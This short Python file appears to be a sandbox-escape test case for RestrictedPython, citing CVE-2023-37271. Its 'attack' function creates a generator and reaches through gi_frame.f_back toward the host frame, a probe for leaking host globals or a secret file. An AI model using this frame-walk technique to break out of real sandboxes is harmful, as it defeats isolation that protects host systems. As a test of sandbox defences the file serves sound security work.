# mypy: ignore-errors
# Technique: generator `gi_frame.f_back.f_globals` to climb into the host runtime frame.
# Advisory: CVE-2023-37271 / GHSA-wqc8-x2pr-7jqh (RestrictedPython: generator gi_frame
# stack-frame walk to the caller's globals)
def attack(secret_path, canary_path):
    def gen():
        yield 1

    g = gen()
    return repr(g.gi_frame.f_back)
